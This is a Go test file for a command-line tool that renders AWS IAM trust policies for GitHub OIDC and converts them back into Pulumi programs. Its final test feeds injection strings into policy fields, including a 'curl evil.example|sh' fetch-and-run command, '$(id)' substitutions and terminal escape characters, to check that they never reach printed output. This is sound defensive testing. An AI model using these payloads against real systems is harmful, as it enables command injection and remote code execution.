package main

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

// policyOf is the trust policy of sections.
func policyOf(t *testing.T, sections string) string {
	t.Helper()
	a := cli(t, "", "render", "--input", file(t, sections), "--account-id", "123456789012", "--json")
	if a.code != 0 {
		t.Fatal(a.err)
	}
	var rendering struct{ TrustPolicy string }
	if err := json.Unmarshal([]byte(a.out), &rendering); err != nil {
		t.Fatal(err)
	}
	return rendering.TrustPolicy
}

func TestWhatRenderMakesIsAdoptedAndRenderedAgain(t *testing.T) {
	policy := policyOf(t, sections)
	a := cli(t, policy, "adopt", "--trust-policy", "-")
	if a.code != 0 || a.err != "" {
		t.Fatalf("exit %d: %s\n%s", a.code, a.err, a.out)
	}
	var program struct {
		Resources struct {
			Deploy struct{ Properties map[string]any }
		}
	}
	if err := yaml.Unmarshal([]byte(a.out), &program); err != nil {
		t.Fatal(err)
	}
	again, err := yaml.Marshal(program.Resources.Deploy.Properties)
	if err != nil {
		t.Fatal(err)
	}
	if got := policyOf(t, string(again)); got != policy {
		t.Errorf("%s\nwas %s", got, policy)
	}
}

func TestAdoptPrintsAProgramInEveryLanguage(t *testing.T) {
	policy := policyOf(t, sections)
	for language, part := range map[string]string{
		"yaml": "organizationId: 6f1b5a0e", "typescript": `organizationId: "6f1b5a0e`, "python": `organization_id`,
		"go": "OrganizationId: pulumi.String(", "java": `.organizationId("6f1b5a0e`,
		"csharp": `OrganizationId = "6f1b5a0e`,
	} {
		a := cli(t, policy, "adopt", "--trust-policy", "-", "--language", language)
		if a.code != 0 || !strings.Contains(a.out, part) {
			t.Errorf("%s: exit %d, no %q in\n%s%s", language, a.code, part, a.out, a.err)
		}
	}
	if a := cli(t, policy, "adopt", "--trust-policy", "-", "--language", "cobol"); a.code != 2 {
		t.Errorf("exit %d for a language that there is not", a.code)
	}
}

// A name that the policy does not hold is none that somebody could have registered: no section takes it.
func TestAPlaceholderIsTakenByNoSectionAndTheCommandThatFindsItIsPrinted(t *testing.T) {
	var compact strings.Builder
	compact.WriteString("github:\n  repositories:\n")
	for _, id := range []string{"11", "12", "13", "14", "15", "16", "17", "18", "19", "20", "21", "22"} {
		compact.WriteString("    - {repository: acme@1234567/a-rather-long-name-" + id + "@890123" + id +
			", branches: [main], pullRequests: true}\n")
	}
	policy := policyOf(t, compact.String())
	a := cli(t, policy, "adopt", "--trust-policy", "-")
	if a.code != 0 || !strings.Contains(a.out, "acme@1234567/<NAME>@89012311 # gh api repositories/89012311") ||
		!strings.Contains(a.err, "the policy does not hold acme@1234567/<NAME>@89012311") {
		t.Fatalf("exit %d: %s\n%s", a.code, a.err, a.out)
	}
	_, inputs, _ := strings.Cut(a.out, "properties:\n")
	inputs, _, _ = strings.Cut(inputs, "outputs:")
	inputs = strings.ReplaceAll(inputs, "\n      ", "\n")
	b := cli(t, "", "render", "--input", file(t, strings.TrimPrefix(inputs, "      ")), "--account-id", "123456789012")
	if b.code != 2 || !strings.Contains(b.err, "<NAME>") {
		t.Errorf("exit %d: %s\n%s", b.code, b.err, b.out)
	}
}

func TestAdoptSaysWhatCannotBeExpressedStatementByStatement(t *testing.T) {
	a := cli(t, `{"Version":"2012-10-17","Statement":{"Sid":"Everything","Effect":"Allow","Principal":{"Federated":
		"arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com"},
		"Action":"sts:AssumeRoleWithWebIdentity","Condition":{"StringLike":{
		"token.actions.githubusercontent.com:sub":"repo:acme/*"}}}}`, "adopt", "--trust-policy", "-", "--json")
	var adoption struct {
		Version int
		Verdict string
		Why     []struct {
			Statement int
			Sid, Text string
		}
	}
	if err := json.Unmarshal([]byte(a.out), &adoption); err != nil || a.code != 1 || adoption.Version != 1 ||
		adoption.Verdict != "inexpressible" || len(adoption.Why) == 0 || adoption.Why[0].Sid != "Everything" ||
		adoption.Why[0].Statement != 1 {
		t.Errorf("exit %d, %v: %s%s", a.code, err, a.out, a.err)
	}
}

func TestAdoptRefusesWhatIsNoPolicyOrOfAnotherAccount(t *testing.T) {
	policy := policyOf(t, sections)
	for text, args := range map[string][]string{
		"twelve digits":        {"--account-id", "1234"},
		"of its own account":   {"--account-id", "210987654321"},
		"--language is yaml, ": {"--language", "perl"},
		"unknown flag: --now":  {"--now"},
	} {
		a := cli(t, policy, append([]string{"adopt", "--trust-policy", "-"}, args...)...)
		if a.code != 2 || !strings.Contains(a.err, text) {
			t.Errorf("%v: exit %d, %s", args, a.code, a.err)
		}
	}
	if a := cli(t, "{", "adopt", "--trust-policy", "-"); a.code != 2 {
		t.Errorf("exit %d for half a document", a.code)
	}
}

// Whatever render was recorded to make is turned back into inputs, of which it makes a policy that admits the same.
func TestEveryRecordedRenderingIsAdoptedAndRenderedAgain(t *testing.T) {
	compared := 0
	for _, name := range append(declaredSections(t), mixed) {
		for _, c := range readRecording(t, name).Cases {
			if c.Exit != 0 {
				continue
			}
			policy := c.Out[0]
			a := cli(t, policy, "adopt", "--trust-policy", "-", "--json")
			var adoption struct {
				Inputs       map[string]any
				Placeholders []any
			}
			if err := json.Unmarshal([]byte(a.out), &adoption); err != nil || a.code != 0 {
				t.Errorf("%s, %s: exit %d, %v\n%s\n%s%s", name, c.Name, a.code, err, policy, a.out, a.err)
				continue
			}
			if len(adoption.Placeholders) > 0 {
				continue
			}
			inputs, err := json.Marshal(adoption.Inputs)
			if err != nil {
				t.Fatal(err)
			}
			again := cli(t, string(inputs), append([]string{"render", "--input", "-", "--json"}, c.Arguments...)...)
			if again.code != 0 {
				t.Errorf("%s, %s: %s\n%s\n%s", name, c.Name, policy, inputs, again.err)
				continue
			}
			d := cli(t, again.out, "diff", file(t, policy), "-")
			back := cli(t, again.out, "diff", "-", file(t, policy))
			if compared++; d.code != 0 || back.code != 0 {
				t.Errorf("%s, %s: %s\nis rendered again as %s\n%s%s", name, c.Name, policy, again.out, d.out, back.out)
			}
		}
	}
	if compared < 300 {
		t.Errorf("only %d were compared", compared)
	}
}

func TestTheAnswerOfGetRoleIsAdoptedUnderTheRolesName(t *testing.T) {
	policy := policyOf(t, sections)
	role := `{"Role":{"RoleName":"web-deploy","Arn":"arn:aws:iam::123456789012:role/web-deploy",` +
		`"AssumeRolePolicyDocument":` + policy + `}}`
	a := cli(t, role, "adopt", "--trust-policy", "-")
	if a.code != 0 || !strings.Contains(a.out, "\n  web-deploy:\n") {
		t.Errorf("exit %d: %s%s", a.code, a.out, a.err)
	}
}

func TestAPolicyThatIsMoreThanCanBeLookedAtIsUndecided(t *testing.T) {
	const issuer = "token.actions.githubusercontent.com"
	names, ids := []string{}, []string{}
	for i := range 300 {
		names = append(names, fmt.Sprintf("repo:acme/r%d:ref:refs/heads/main", i))
		ids = append(ids, fmt.Sprint(1000+i))
	}
	policy, err := json.Marshal(map[string]any{"Version": "2012-10-17", "Statement": map[string]any{
		"Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity",
		"Principal": map[string]any{"Federated": "arn:aws:iam::123456789012:oidc-provider/" + issuer},
		"Condition": map[string]any{"StringEquals": map[string]any{
			issuer + ":aud": "sts.amazonaws.com", issuer + ":sub": names, issuer + ":repository_id": ids,
		}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	a := cli(t, string(policy), "adopt", "--trust-policy", "-")
	if a.code != 3 || !strings.Contains(a.err, "could not be decided") {
		t.Errorf("exit %d: %s%s", a.code, a.out, a.err)
	}
}

// What stands in a policy is not the user's own text, and people paste what is printed.
func TestNoTextOfAPolicyBecomesACommandAProgramOrAnEscape(t *testing.T) {
	const issuer = "token.actions.githubusercontent.com"
	for _, evil := range []string{
		"1;curl evil.example|sh", "$(id)", "`id`", "1' ; id #", "7\n8", "\x1b[2J", "\u202e7", "x\"), evil(\"",
		"a: b # c",
	} {
		for _, claims := range []map[string]any{
			{
				issuer + ":sub": "repo:*:ref:refs/heads/main", issuer + ":repository_owner_id": "1",
				issuer + ":repository_id": evil,
			},
			{issuer + ":sub": "repo:acme/web:environment:" + evil},
			{issuer + ":sub": "repo:acme/web:ref:refs/heads/main", issuer + ":actor": evil},
		} {
			claims[issuer+":aud"] = "sts.amazonaws.com"
			policy, err := json.Marshal(map[string]any{"Version": "2012-10-17", "Statement": map[string]any{
				"Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity", "Sid": "Sid" + evil,
				"Principal": map[string]any{"Federated": "arn:aws:iam::123456789012:oidc-provider/" + issuer},
				"Condition": map[string]any{"StringLike": claims},
			}})
			if err != nil {
				t.Fatal(err)
			}
			a := cli(t, string(policy), "adopt", "--trust-policy", "-")
			for line := range strings.Lines(a.out + a.err) {
				if strings.Contains(line, "gh api repositories/") && strings.Contains(line, evil) ||
					strings.ContainsAny(line, "\x1b\u202e") || strings.HasPrefix(line, "8") {
					t.Errorf("%q is printed in %q", evil, line)
				}
			}
			var program map[string]any
			if err := yaml.Unmarshal([]byte(a.out), &program); err != nil || len(program) > 4 {
				t.Errorf("%q: %v\n%s", evil, err, a.out)
			}
		}
	}
}
